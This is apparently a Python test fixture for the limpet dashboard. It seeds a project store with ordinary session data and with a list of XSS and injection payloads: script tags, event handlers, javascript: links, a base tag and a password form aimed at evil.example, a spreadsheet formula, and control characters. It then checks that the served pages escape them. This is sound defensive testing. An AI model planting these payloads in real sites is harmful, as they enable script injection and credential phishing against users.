"""A project for the dashboard to show: a believable one, one that means harm, and a server for each."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import httpx2

from limpet import wiring
from limpet.api import Limpet, Session, wall_clock
from limpet.doors.dashboard.frame import CSP
from limpet.model import PERSON
from limpet.upkeep import access_tokens
from limpet.window.messages import Call, Message, assistant, result, user
from limpet.window.plan.controller import Compact

PROJECT = "tidewater"
TOKEN = "a-token-for-tests-only"
FIRST = ("/overview", "/overview?archived=no", "/journal", "/recall?q=casts+tabs+script+alert", "/savings")
DOWNLOAD = "/export.jsonl"  # no page: a file to keep
HTML = {"Accept": "text/html"}  # what a browser asks for

# What a stored text might hope to be: markup, a script, a way out of an attribute, a comment, a title or a text area, a
# template, a link that acts, a page that asks for a password, something of the browser's own parser mishaps.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    '"><iframe srcdoc="<script>alert(4)</script>">',
    "javascript:alert(5)",
    "data:text/html,<script>alert(6)</script>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=password>',
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    "</textarea><script>alert(7)</script>",
    "</title></pre></style></script><script>alert(8)</script>",
    "[click](javascript:alert(9)) ![x](https://evil.example/?q=1)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>",
    "' onmouseover='alert(11)' x='",
    '" autofocus onfocus="alert(12)',
    "<!--><script>alert(13)</script>-->",
    "<a href=' javascript:alert(14)'>x</a><details open ontoggle=alert(15)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(16)'>",
    "<style>*{background:url(https://evil.example/)}</style><link rel=stylesheet href=//evil.example>",
    '=HYPERLINK("https://evil.example","x")',
    "\x1b[2J\x1b]0;title\x07\u202eevil\u2066\u200b\u200d\U000e0041",
    "&lt;script&gt;alert(17)&lt;/script&gt; &amp;#60; &#x3c;script&#x3e;",
)
MARK = "<script>window.__ran = 1; alert('x')</script><img src=x onerror=\"window.__ran = 2\">"


class Served(NamedTuple):
    url: str  # without a path
    dashboard: str  # the address that signs in
    store: str


def story(hold: Limpet) -> None:
    """Some days of work of three sessions, with everything the pages can show."""
    first = hold.session("port-parser")
    first.begin("Port the parser to two tokens of lookahead, and drop the hand-written lexer")
    first.notes.add("Casts break LL(1): `(a)(b)` needs a second token of lookahead.", tags=["grammar", "parser"])
    first.notes.add("The old lexer treats a tab as four columns; error positions depend on it.", tags=["lexer"])
    done = first.notes.add("Ask Ada whether generics may stay out of the first release.", tags=["question"])
    first.notes.update(done.id, done=True)
    first.notepad.write("# Plan\n\n- [x] read the grammar\n- [ ] casts\n- [ ] error positions\n")
    first.notepad.append("\n## Findings\n\nThe table of operators is generated; edit `ops.toml`, not `ops.py`.\n")
    first.notepad.replace("- [ ] casts", "- [x] casts")
    first.pin("Never push to main; open a pull request and ask Ada.")
    first.hold.call("begin_task", {"description": "Make casts parse"}, session=first.id)
    first.hold.call("end_task", {"summary": "Casts parse; 214 of 214 tests pass."}, session=first.id)
    rows = "\n".join(f"tests/test_casts.py::test_cast_{n} PASSED  [{n % 100:3d}%]" for n in range(400))
    first.outputs.keep("pytest", f"{rows}\nFAILED tests/test_lexer.py::test_tabs - assert 4 == 8\n1 failed, 400 passed")
    first.outputs.keep(
        "http_get", json.dumps([{"id": n, "name": f"issue {n}", "open": n % 3 == 0} for n in range(300)])
    )
    child = first.spawn("Find every place that relies on tab columns", notes=[])
    child.notes.add("Only `errors.py` counts columns; all others use offsets.", tags=["lexer"])
    child.report("Only errors.py relies on tab columns.")
    hold.session("docs").begin("Write the grammar chapter")
    hold.session("docs").notepad.write("# Outline\n\n1. Tokens\n2. Expressions\n")
    memory = hold.session("port-parser").memory
    memory.write("build", "`make gen` before `make test`: the operator table is generated.")
    memory.write("conventions", "Positions are byte offsets. Line and column are computed when shown.")
    memory.write("build", "`make gen` before `make test`; on CI the cache key is the hash of ops.toml.")
    hold.run(_op("pin_memory"), {"key": "conventions"}, None, "person/cli")
    first.handoff.write("Casts parse. Next: error positions with tabs (see the note on the old lexer).")
    compacted(hold.session("port-parser"))


def _op(name: str) -> Any:
    from limpet.catalogue.table import find

    return find(name)


def compacted(session: Session) -> None:
    """A long talk, until it was warned about and compacted."""
    talk: list[Message] = [user("Port the parser; we agreed on port 8443 and on ticket PAR-118.")]
    for number in range(120):
        step = session.window.next(talk, limit=6_000)
        if isinstance(step, Compact):
            return
        said = f"Step {number}: reading src/parser/casts.py:{40 + number}-{52 + number} now."
        call = Call(f"c{number}", "shell", json.dumps({"command": f"cat part{number}.txt"}))
        talk = [*talk, assistant(said, call), result(f"c{number}", f"row {number} of the table\n" * 40)]
        talk = [*talk, user(f"Question {number}? " + "why " * 60), assistant(f"Answer {number}. " + "because " * 60)]
    raise AssertionError("the window never filled up")


def hostile(hold: Limpet, text: str = "\n".join(HOSTILE)) -> None:
    """The same text in every place that a page shows."""
    one_line = " ".join(MARK.split())
    session = hold.session(one_line[:150])
    session.begin(text)
    note = session.notes.add(text, tags=[one_line[:60], "<b>bold</b>"])
    session.notes.update(note.id, content=f"{text}\nagain")
    session.notepad.write(text)
    session.notepad.append(f"\n{MARK}")
    session.scratch(text, "replace")
    session.pin(text)
    session.hold.call("begin_task", {"description": text}, session=session.id)
    session.hold.call("end_task", {"summary": text}, session=session.id)
    session.memory.write(one_line[:100], text)
    session.memory.write(one_line[:100], MARK)
    session.handoff.write(text, line=one_line[:100])
    session.handoff.write(MARK, line=one_line[:100])
    session.outputs.keep(one_line[:80], (text + "\n") * 60, call=text)
    session.hold.call("agent_state", {"action": "set", "key": one_line[:60], "value": text}, session=session.id)
    child = session.spawn(text)
    child.report(text)
    talk = [user(text), assistant(text, Call("c1", one_line[:40], json.dumps({"x": text}))), result("c1", text)]
    session.window.next(talk, limit=200_000)
    hold.see_tools(one_line[:60], {"tool": {"description": text}})
    hold.see_tools(one_line[:60], {"tool": {"description": MARK}})


JOURNAL = """# NOTES

## Session Continuity

### Active Context

- **Current Task:** {text}

### Decision Log

#### {text}

- Decision: {text}
"""


def project(folder: Path, *, means_harm: bool) -> str:
    """A store with a story in it, and a journal beside it. The store's path."""
    store = str(folder / "limpet.db")
    for name, body in _made(means_harm).items():
        (folder / name).write_bytes(body)
    if means_harm:
        (folder / "NOTES.md").write_text(JOURNAL.format(text=MARK + " ".join(HOSTILE[:6])), encoding="utf-8")
    return store


@cache
def _made(means_harm: bool) -> dict[str, bytes]:
    """The files of such a store: written once, and copied for each test."""
    with tempfile.TemporaryDirectory() as folder:
        with wiring.open(f"{folder}/limpet.db", project=PROJECT) as hold:
            story(hold)
            if means_harm:
                hostile(hold)
        return {path.name: path.read_bytes() for path in Path(folder).iterdir() if path.is_file()}


@contextmanager
def served(store: str, folder: Path, *options: str, **settings: str) -> Iterator[Served]:
    """`limpet serve` in a process of its own, on a free port; without a store, of the folder's own project."""
    env = {**os.environ, "LIMPET_TOKEN": TOKEN, **settings}
    command = [sys.executable, "-m", "limpet", "serve"]
    command += ["--store", store, "--project", PROJECT] if store else []
    command += ["--port", "0", "--json", *options]
    with (folder / "serve.log").open("w+", encoding="utf-8") as log:
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=log, text=True, env=env, cwd=folder)
        try:
            assert process.stdout is not None
            said = process.stdout.readline()
            assert said, (folder / "serve.log").read_text(encoding="utf-8")
            reply = json.loads(said)
            yield Served(reply["url"].removesuffix("/mcp"), reply["dashboard"], store)
        finally:
            process.terminate()
            process.communicate(timeout=20)
    assert "Traceback" not in (folder / "serve.log").read_text(encoding="utf-8")


def person_token(store: str, scope: str = "admin", *projects: str, name: str = "ada") -> access_tokens.Created:
    """A token as `limpet token create --person` makes it."""
    now = wall_clock()
    with wiring.open(store, project=PROJECT) as hold:
        named = projects or (PROJECT,)
        wanted = access_tokens.token_request(name, hold.scope.tenant, scope, named, "1d", now, PERSON)
        return access_tokens.create(hold.store, wanted, by="person/test", now=now)


BY_CODE = "by the address that is printed"


@cache
def _cookies(address: str) -> dict[str, str]:
    """What a browser has after it opened the address that signs in, which works once."""
    answer = httpx2.get(address, headers=HTML, timeout=30)
    assert answer.status_code == 200, answer.text
    return dict(answer.cookies)


@contextmanager
def browser(site: Served, token: str | None = BY_CODE) -> Iterator[httpx2.Client]:
    """Somebody at a browser: signed in, unless the token is None. Without one, as the person of a local server."""
    with httpx2.Client(base_url=site.url, headers=HTML, timeout=30) as client:
        if token == BY_CODE:
            client.cookies.update(_cookies(site.dashboard))
        elif token is not None:
            answer = client.post("/sign-in", data={"token": token}, headers={"Origin": site.url})
            assert answer.status_code == 200, answer.text
        yield client


def send(client: httpx2.Client, action: str, **form: object) -> httpx2.Response:
    origin = str(client.base_url).rstrip("/")
    return client.post(
        f"/do/{action}", data={name: str(value) for name, value in form.items()}, headers={"Origin": origin}
    )


class Seen(HTMLParser):
    """A page as a browser's parser sees it: its elements, addresses and text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def links(self) -> list[str]:
        found = (attributes.get("href") for tag, attributes in self.elements if tag == "a")
        return [link for link in found if link and link.startswith("/")]


def walk(client: httpx2.Client, most: int = 400) -> dict[str, Seen]:
    """Every page there is a link to, from the first ones on; of each kind of page and query, some."""
    waiting = [*FIRST]
    found: dict[str, Seen] = {}
    kinds: dict[str, int] = {}
    while waiting and len(found) < most:
        link = waiting.pop(0)
        parts = urlsplit(link)
        kind = parts.path + ",".join(sorted(re.findall(r"(?:^|&)(\w+)=", parts.query)))
        if link in found or kinds.get(kind, 0) >= 6:
            continue
        kinds[kind] = kinds.get(kind, 0) + 1
        answer = client.get(link)
        assert answer.status_code == 200, (link, answer.text[-400:])
        assert answer.headers["content-security-policy"] == CSP
        found[link] = Seen(answer.text)
        waiting += [one for one in found[link].links() if one != "/" and not one.endswith(DOWNLOAD)]
    return found
